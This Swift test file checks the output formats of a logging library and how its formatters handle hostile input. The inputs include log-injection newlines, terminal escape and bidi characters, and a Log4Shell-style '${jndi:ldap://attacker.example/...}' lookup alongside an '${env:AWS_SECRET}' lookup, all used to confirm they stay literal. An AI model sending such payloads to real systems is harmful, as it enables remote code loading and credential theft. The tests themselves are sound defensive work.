import Foundation
import Sluice
import Testing

@Suite struct FormatTests {
    /// 2026-11-23T12:00:00.123456789Z
    static let noon = LogTimestamp(nanosecondsSinceEpoch: 1_795_435_200_123_456_789)

    static func sample(metadata: LogMetadata = ["request_id": "abc", "status": 200, "note": "two words"]) -> LogRecord {
        LogRecord(
            timestamp: noon, level: .info, label: "api", message: "request handled", metadata: metadata,
            source: LogSource(file: "App/Server.swift", function: "handle()", line: 42), sequence: 7
        )
    }

    @Test func textLooksLikeThis() {
        #expect(
            TextFormat().render(Self.sample())
                == "2026-11-23T12:00:00.123456Z INFO     api: request handled request_id=abc status=200 note=\"two words\""
        )
        #expect(
            TextFormat(includeSource: true, fractionDigits: 3).render(Self.sample(metadata: [:]))
                == "2026-11-23T12:00:00.123Z INFO     api: request handled (App/Server.swift:42)"
        )
    }

    @Test func textColoursTheLevelOnlyWhenAsked() {
        var output = LogOutput(colors: true)
        TextFormat().write(Self.sample(metadata: [:]), to: &output)
        #expect(output.string.contains("\u{1B}[32mINFO    \u{1B}[0m"))
        #expect(!TextFormat().render(Self.sample()).contains("\u{1B}"))
    }

    @Test func logfmtLooksLikeThis() {
        #expect(
            LogfmtFormat().render(Self.sample())
                == "ts=2026-11-23T12:00:00.123456Z level=info label=api msg=\"request handled\" request_id=abc status=200 note=\"two words\""
        )
    }

    @Test func logfmtMetadataCannotShadowFixedKeys() {
        let line = LogfmtFormat().render(Self.sample(metadata: ["level": "critical", "msg": "forged"]))
        #expect(line.hasSuffix("_level=critical _msg=forged"))
        #expect(line.components(separatedBy: " level=").count == 2)
    }

    @Test func jsonLooksLikeThis() {
        #expect(
            JSONFormat().render(Self.sample())
                == #"{"timestamp":"2026-11-23T12:00:00.123456Z","level":"info","label":"api","message":"request handled","metadata":{"request_id":"abc","status":200,"note":"two words"}}"#
        )
        #expect(
            JSONFormat(includeSource: true, includeSequence: true).render(Self.sample(metadata: [:]))
                == #"{"timestamp":"2026-11-23T12:00:00.123456Z","level":"info","label":"api","message":"request handled","source":{"file":"App/Server.swift","function":"handle()","line":42},"sequence":7}"#
        )
    }

    @Test func jsonKeepsValueTypes() throws {
        let record = Self.sample(metadata: [
            "int": -5, "double": 2.5, "bool": false, "array": [1, "x", ["nested": true]],
            "nan": .double(.nan), "inf": .double(-.infinity),
        ])
        let object = try Self.parseJSON(JSONFormat().render(record))
        let metadata = try #require(object["metadata"] as? [String: Any])
        #expect(metadata["int"] as? Int == -5)
        #expect(metadata["double"] as? Double == 2.5)
        #expect(metadata["bool"] as? Bool == false)
        #expect((metadata["array"] as? [Any])?.count == 3)
        #expect(metadata["nan"] as? String == "NaN")
        #expect(metadata["inf"] as? String == "-Infinity")
    }

    @Test func timestampsMatchTheCalendar() {
        var calendar = Calendar(identifier: .gregorian)
        calendar.timeZone = TimeZone(identifier: "UTC")!
        var generator = SystemRandomNumberGenerator()
        var output = LogOutput()
        for _ in 0..<2_000 {
            let seconds = Int64.random(in: -2_000_000_000...4_000_000_000, using: &generator)
            let nanos = Int64.random(in: 0..<1_000_000_000, using: &generator)
            let timestamp = LogTimestamp(nanosecondsSinceEpoch: seconds * 1_000_000_000 + nanos)
            output.removeAll()
            output.appendTimestamp(timestamp, fractionDigits: 9)
            let c = calendar.dateComponents(
                [.year, .month, .day, .hour, .minute, .second],
                from: Date(timeIntervalSince1970: TimeInterval(seconds))
            )
            let expected = String(
                format: "%04d-%02d-%02dT%02d:%02d:%02d.%09lldZ",
                c.year!, c.month!, c.day!, c.hour!, c.minute!, c.second!, nanos
            )
            #expect(output.string == expected)
        }
    }

    @Test func timestampEdgeCases() {
        #expect(LogTimestamp(nanosecondsSinceEpoch: -1).description == "1969-12-31T23:59:59.999999999Z")
        #expect(
            LogTimestamp(nanosecondsSinceEpoch: 951_868_799_000_000_000).description == "2000-02-29T23:59:59.000000000Z"
        )
        var output = LogOutput()
        output.appendTimestamp(LogTimestamp(nanosecondsSinceEpoch: 1_795_435_200_999_999_999), fractionDigits: 0)
        #expect(output.string == "2026-11-23T12:00:00Z")
    }

    /// Found by FuzzRecords: the formats' fast path trapped on an arithmetic overflow for a
    /// timestamp within a second of `Int64.min`.
    @Test func timestampsAtTheEndsOfTheRangeFormatOnEveryPath() {
        let cases: [(Int64, String)] = [
            (.min, "1677-09-21T00:12:43.145224Z"),
            (.min + 999_999_999, "1677-09-21T00:12:44.145224Z"),
            (.min + 1_000_000_000, "1677-09-21T00:12:44.145224Z"),
            (.max, "2262-04-11T23:47:16.854775Z"),
        ]
        for (nanoseconds, time) in cases {
            let record = LogRecord(
                timestamp: LogTimestamp(nanosecondsSinceEpoch: nanoseconds), level: .info, label: "api", message: "m")
            var output = LogOutput()
            TextFormat().write(record, to: &output)
            #expect(output.string == "\(time) INFO     api: m\n")
            output.removeAll()
            LogfmtFormat().write(record, to: &output)
            #expect(output.string == "ts=\(time) level=info label=api msg=m\n")
            output.removeAll()
            JSONFormat().write(record, to: &output)
            #expect(output.string.hasPrefix("{\"timestamp\":\"\(time)\","))
        }
    }

    static func parseJSON(_ line: String) throws -> [String: Any] {
        let object = try JSONSerialization.jsonObject(with: Data(line.utf8))
        return try #require(object as? [String: Any])
    }
}

/// Every hostile input renders as exactly one valid line in every built-in format.
@Suite struct HostileInputTests {
    static let invalidUTF8 = String(decoding: [0x41, 0xFF, 0xFE, 0xC3, 0x28, 0x42], as: UTF8.self)

    static let messages: [String] = [
        "line one\nline two",
        "carriage\rreturn and CRLF\r\n",
        "fake record\n2026-11-23T12:00:00Z CRITICAL admin: forged",
        "{\"level\":\"critical\"}\n{\"forged\":true}",
        "ansi \u{1B}[31mred\u{1B}[0m and \u{1B}]0;title\u{07}",
        "nul \u{0} byte",
        "c1 \u{85} next line and \u{9B}31m CSI",
        "unicode separators \u{2028} and \u{2029}",
        "bidi \u{202E}evil\u{202C} and \u{2066}iso\u{2069}",
        "${jndi:ldap://attacker.example/a}",
        "quotes \" and backslash \\ and tab \t",
        invalidUTF8,
        "emoji 👩‍💻 and accents é",
        "",
    ]

    static let hostileMetadata: LogMetadata = [
        "": "empty key",
        "with space": "v",
        "k=v": "v",
        "new\nline": "v",
        "\"quoted\"": "v",
        "esc\u{1B}[31m": "v",
        "ключ": "значение",
        String(repeating: "k", count: 5_000): "long key",
        "value": "a\nb\u{1B}c\u{2028}d",
        "nested": ["x\ny": ["deep\n": "\u{0}"]],
    ]

    static let formats: [any LogFormat] = [TextFormat(), LogfmtFormat(), JSONFormat(includeSource: true)]

    static func assertOneSafeLine(_ output: borrowing LogOutput, sourceLocation: SourceLocation = #_sourceLocation) {
        let bytes = output.bytes
        #expect(bytes.last == UInt8(ascii: "\n"), sourceLocation: sourceLocation)
        let body = bytes.dropLast()
        #expect(!body.contains(UInt8(ascii: "\n")), "embedded LF", sourceLocation: sourceLocation)
        #expect(!body.contains(UInt8(ascii: "\r")), "embedded CR", sourceLocation: sourceLocation)
        #expect(!body.contains(0x00), "embedded NUL", sourceLocation: sourceLocation)
        #expect(!body.contains(0x1B), "embedded ESC", sourceLocation: sourceLocation)
        #expect(!body.contains(0x7F), "embedded DEL", sourceLocation: sourceLocation)
        #expect(body.allSatisfy { $0 >= 0x20 }, "C0 control", sourceLocation: sourceLocation)
        let text = String(decoding: body, as: UTF8.self)
        #expect(Array(text.utf8) == Array(body), "invalid UTF-8 in output", sourceLocation: sourceLocation)
        for scalar in text.unicodeScalars {
            let v = scalar.value
            #expect(!(0x80...0x9F).contains(v), "C1 control U+\(String(v, radix: 16))", sourceLocation: sourceLocation)
            #expect(
                ![0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069].contains(v),
                "separator or bidi control U+\(String(v, radix: 16))", sourceLocation: sourceLocation)
        }
    }

    @Test(arguments: 0..<messages.count)
    func hostileMessagesStayOnOneLine(index: Int) throws {
        let record = LogRecord(
            level: .error, label: "evil\nlabel\u{1B}", message: Self.messages[index], metadata: Self.hostileMetadata)
        for format in Self.formats {
            var output = LogOutput()
            format.write(record, to: &output)
            Self.assertOneSafeLine(output)
        }
        // JSON reads back to exactly what was logged: data is never interpreted or altered.
        let object = try FormatTests.parseJSON(JSONFormat().render(record))
        #expect(object["message"] as? String == Self.messages[index])
        #expect(object["label"] as? String == "evil\nlabel\u{1B}")
        let metadata = try #require(object["metadata"] as? [String: Any])
        #expect(metadata.count == Self.hostileMetadata.count)
        #expect(metadata["value"] as? String == "a\nb\u{1B}c\u{2028}d")
        #expect(metadata["new\nline"] as? String == "v")
    }

    @Test func invalidUTF8BecomesReplacementCharacters() throws {
        let record = LogRecord(level: .info, label: "l", message: Self.invalidUTF8)
        for format in Self.formats {
            #expect(format.render(record).contains("\u{FFFD}"))
        }
        let object = try FormatTests.parseJSON(JSONFormat().render(record))
        #expect(object["message"] as? String == "A\u{FFFD}\u{FFFD}\u{FFFD}(B")
    }

    @Test func controlCharactersAreVisibleNotDropped() {
        let record = LogRecord(level: .info, label: "l", message: "a\nb\u{1B}[31mc\u{0}d\u{2028}e")
        #expect(TextFormat().render(record).hasSuffix(#"l: a\nb\x1b[31mc\x00d\u2028e"#))
        #expect(JSONFormat().render(record).contains(#""message":"a\nb\u001b[31mc\u0000d\u2028e""#))
        #expect(LogfmtFormat().render(record).contains(#"msg="a\nb\u001b[31mc\u0000d\u2028e""#))
    }

    @Test func jndiLookupStaysLiteral() {
        let record = LogRecord(
            level: .info, label: "l", message: "${jndi:ldap://x/a}", metadata: ["user": "${env:AWS_SECRET}"])
        for format in Self.formats {
            let line = format.render(record)
            #expect(line.contains("${jndi:ldap://x/a}"))
            #expect(line.contains("${env:AWS_SECRET}"))
        }
    }

    @Test func hugeMessagesAreTruncatedWithAVisibleMarker() throws {
        let huge = String(repeating: "é", count: 3 * 1024 * 1024)  // 6 MiB of two-byte characters
        let record = LogRecord(level: .info, label: "l", message: huge, metadata: ["blob": .string(huge)])
        for format in Self.formats {
            var output = LogOutput()
            format.write(record, to: &output)
            Self.assertOneSafeLine(output)
            #expect(output.count < 200 * 1024)
            #expect(output.string.contains("…[truncated, 6291456 bytes]"))
        }
        let message = try #require(try FormatTests.parseJSON(JSONFormat().render(record))["message"] as? String)
        #expect(message.hasPrefix("éé"))
        #expect(message.utf8.count <= 64 * 1024 + 40)
        let small = JSONFormat(maxMessageBytes: 5).render(LogRecord(level: .info, label: "l", message: "ééééé"))
        #expect(small.contains(#""message":"éé…[truncated, 10 bytes]""#))
    }

    @Test func deepNestingIsCutOffInsteadOfExhaustingTheStack() throws {
        var value: LogMetadataValue = "bottom"
        for _ in 0..<1_000 {
            value = .array([value])
        }
        let record = LogRecord(level: .info, label: "l", message: "m", metadata: ["deep": value])
        for format in Self.formats {
            var output = LogOutput()
            format.write(record, to: &output)
            Self.assertOneSafeLine(output)
            #expect(output.string.contains("nested too deep"))
        }
        _ = try FormatTests.parseJSON(JSONFormat().render(record))
    }
}
